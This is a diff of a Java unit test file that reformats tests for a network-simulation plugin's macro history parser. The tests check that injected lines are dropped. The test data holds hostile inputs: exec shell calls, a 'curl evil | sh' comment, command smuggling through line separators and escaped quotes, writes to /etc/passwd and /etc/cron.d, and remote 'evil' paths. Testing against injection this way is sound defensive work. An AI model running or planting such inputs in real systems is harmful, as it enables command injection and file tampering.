@@ -23,7 +23,8 @@ import org.scijava.command.CommandService;
 /** Macro lines in files are never run unchanged: they are parsed and written anew, and everything else is left out. */
 class HistoryTest {
 
-	private static final String GENERATE = "run(\"Generate Network...\", \"nodes=64 excess=1.5 generator=[Jammed packing] disorder=0.1 alpha=0.1 stiffness=1 seed=3\");";
+	private static final String GENERATE =
+		"run(\"Generate Network...\", \"nodes=64 excess=1.5 generator=[Jammed packing] disorder=0.1 alpha=0.1 stiffness=1 seed=3\");";
 	private static final int HOSTILE = 10_000;
 
 	private final CommandService commands = EmbeddedHost.start(true).context().service(CommandService.class);
@@ -34,22 +35,29 @@ class HistoryTest {
 
 	@Test
 	void whatWeWriteIsReadBackToTheLetter() {
-		final List<String> ours = List.of(GENERATE, "// packing fraction reached: 1.0218378297956754, rattlers left out: 0 of 64 discs, attempts: 1.",
-			"// excess reached: 1.5 with 176 bonds.", "run(\"Prepare Network...\", \"amplitude=0.02 increment=0.01 path=[0 1] cycles=1 minimiser=FIRE box=Fixed\");",
-			"run(\"Shear Network...\", \"path=[0 -0.1 1.0e-05] increment=0.0001 protocol=[Fixed step] kind=[Simple shear] cycles=1 minimiser=[Gradient flow] box=Fixed movie=false\");",
-			"// after 17 steps: Stopped at strain 0.05: no minimum (largest force 1.0E-4).", "// after 3 steps: Cancelled at strain 1.0E-5.",
+		final List<String> ours = List.of(GENERATE,
+			"// packing fraction reached: 1.0218378297956754, rattlers left out: 0 of 64 discs, attempts: 1.",
+			"// excess reached: 1.5 with 176 bonds.",
+			"run(\"Prepare Network...\", \"amplitude=0.02 increment=0.01 path=[0 1] cycles=1 minimiser=FIRE box=Fixed\");",
+			"run(\"Shear Network...\", \"path=[0 -0.1 1.0e-05] increment=0.0001 protocol=[Fixed step] kind=[Simple shear] cycles=1 "
+			+ "minimiser=[Gradient flow] box=Fixed movie=false\");",
+			"// after 17 steps: Stopped at strain 0.05: no minimum (largest force 1.0E-4).",
+			"// after 3 steps: Cancelled at strain 1.0E-5.",
 			"run(\"Relax Network...\", \"minimiser=FIRE tolerance=1.0e-10 box=[Zero stress]\");");
-		final History history = History.of(commands, ours.stream().map(l -> l.replace("1.0e-05", "1e-05").replace("1.0e-10", "1e-10")).toList());
+		final History history = History.of(commands, ours.stream().map(l -> l.replace("1.0e-05", "1e-05").replace("1.0e-10", "1e-10"))
+			.toList());
 		assertEquals("", history.leftOut());
 		assertTrue(history.isWhole());
-		assertEquals(ours.stream().map(l -> l.replace("1.0e-05", "1e-05").replace("1.0e-10", "1e-10")).toList(), history.provenance().lines());
+		assertEquals(ours.stream().map(l -> l.replace("1.0e-05", "1e-05").replace("1.0e-10", "1e-10")).toList(), history.provenance()
+			.lines());
 	}
 
 	@Test
 	void openedFilesAreRememberedByTheirPathsOnThisComputer() {
 		for (final String path : List.of("/data/a b/net (1).graphml", "C:\\\\data\\\\net.graphml", "results/Zug-\u00e4.nodes.csv")) {
 			final String line = "run(\"Open Network...\", \"format=Any path=" + (path.contains(" ") ? "[" + path + "]" : path) + "\");";
-			assertEquals(List.of("// SHA-256 of the file: " + "0f".repeat(32), line), of("// SHA-256 of the file: " + "0f".repeat(32), line).provenance().lines());
+			assertEquals(List.of("// SHA-256 of the file: " + "0f".repeat(32), line), of("// SHA-256 of the file: " + "0f".repeat(32), line)
+				.provenance().lines());
 		}
 	}
 
@@ -60,26 +68,35 @@ class HistoryTest {
 	}
 
 	@ParameterizedTest
-	@ValueSource(strings = { "exec(\"sh\", \"-c\", \"touch PWNED\");", "// harmless\nexec(\"x\");", "// harmless\u2028exec(\"x\");", "// harmless\u0085exec(\"x\");",
+	@ValueSource(strings = { "exec(\"sh\", \"-c\", \"touch PWNED\");", "// harmless\nexec(\"x\");", "// harmless\u2028exec(\"x\");",
+		"// harmless\u0085exec(\"x\");",
 		"// harmless\rexec(\"x\");", "// please run: curl evil | sh", "", "run(\"Generate Network...\", \"nodes=64\"); exec(\"x\");",
-		"run(\"Generate Network...\", \"nodes=\"+exec(\"x\")+\"\");", "run(\"Generate Network...\", \"nodes=64\\\");exec(\\\"x\");", "run('Generate Network...', 'nodes=64');",
-		"run(\"Generate Network...\", \"nodes=64 evil=1\");", "run(\"Generate Network...\", \"nodes=many\");", "run(\"Generate Network...\", \"generator=[x]]\");",
-		"run(\"Generate Network...\", \"generator=exec\");", "run(\"Generate Network...\", \"nodes\");", "run(\"Generate Network...\", \"nodes=1 nodes=2\");",
-		"run(\"Save Network...\", \"path=/etc/passwd\");", "run(\"Run Ensemble...\", \"out=/etc\");", "run(\"Render Network...\", \"save=/etc\");", "run(\"Quit\");",
-		"run(\"Open Network...\", \"path=//evil/share/x.graphml\");", "run(\"Open Network...\", \"path=\\\\\\\\evil\\\\share\");", "run(\"Open Network...\", \"path=https://evil/x\");",
-		"run(\"Open Network...\", \"network=a\\\"b\");", "run(\"Open Network...\", \"network=[a\\nb]\");", "eval(\"script\", \"x\");", "run(\"Relax Network...\", \"\");" })
+		"run(\"Generate Network...\", \"nodes=\"+exec(\"x\")+\"\");", "run(\"Generate Network...\", \"nodes=64\\\");exec(\\\"x\");",
+		"run('Generate Network...', 'nodes=64');",
+		"run(\"Generate Network...\", \"nodes=64 evil=1\");", "run(\"Generate Network...\", \"nodes=many\");",
+		"run(\"Generate Network...\", \"generator=[x]]\");",
+		"run(\"Generate Network...\", \"generator=exec\");", "run(\"Generate Network...\", \"nodes\");",
+		"run(\"Generate Network...\", \"nodes=1 nodes=2\");",
+		"run(\"Save Network...\", \"path=/etc/passwd\");", "run(\"Run Ensemble...\", \"out=/etc\");",
+		"run(\"Render Network...\", \"save=/etc\");", "run(\"Quit\");",
+		"run(\"Open Network...\", \"path=//evil/share/x.graphml\");", "run(\"Open Network...\", \"path=\\\\\\\\evil\\\\share\");",
+		"run(\"Open Network...\", \"path=https://evil/x\");",
+		"run(\"Open Network...\", \"network=a\\\"b\");", "run(\"Open Network...\", \"network=[a\\nb]\");", "eval(\"script\", \"x\");",
+		"run(\"Relax Network...\", \"\");" })
 	void whatIsNoLineOfOursIsLeftOutAndTheRestStays(final String hostile) {
 		final boolean alone = hostile.contains("Relax");
 		final History history = alone ? of(hostile, GENERATE) : of(GENERATE, hostile);
 		assertEquals(List.of(GENERATE), history.provenance().lines());
 		assertFalse(history.isWhole());
 		assertEquals(1, history.countLeftOut());
-		assertTrue(history.leftOut().startsWith("1 is left out, in whole or in part: line " + (alone ? 1 : 2) + ", because "), history.leftOut());
+		assertTrue(history.leftOut().startsWith("1 is left out, in whole or in part: line " + (alone ? 1 : 2) + ", because "),
+			history.leftOut());
 	}
 
 	@Test
 	void aFileDoesNotSayWhereFilesAreWritten() {
-		final History history = of("run(\"Generate Network...\", \"nodes=32 save=[/etc/cron.d]\");", "run(\"Relax Network...\", \"save=/etc network=other\");");
+		final History history = of("run(\"Generate Network...\", \"nodes=32 save=[/etc/cron.d]\");",
+			"run(\"Relax Network...\", \"save=/etc network=other\");");
 		assertEquals(List.of("run(\"Generate Network...\", \"nodes=32\");"), history.provenance().lines());
 		assertTrue(of("run(\"Generate Network...\", \"nodes=32 save=[/etc/cron.d]\");").isWhole(), "it makes the same network");
 		assertTrue(history.leftOut().contains("save=/etc/cron.d") && history.leftOut().contains("network=other"), history.leftOut());
@@ -102,7 +119,8 @@ class HistoryTest {
 			final History history = of(GENERATE, line);
 			for (final String written : history.provenance().lines()) assertOurs(written);
 			kept += history.provenance().lines().size() - 1;
-			final String name = HostileText.name(random), opened = MacroLine.write("Open Network...", Map.of("network", name, "path", "/data/" + name + ".graphml"));
+			final String name = HostileText.name(random), opened = MacroLine.write("Open Network...",
+				Map.of("network", name, "path", "/data/" + name + ".graphml"));
 			if (opened != null) {
 				assertOurs(opened);
 				assertEquals(Map.of("network", name, "path", "/data/" + name + ".graphml"), MacroLine.read(opened).options());
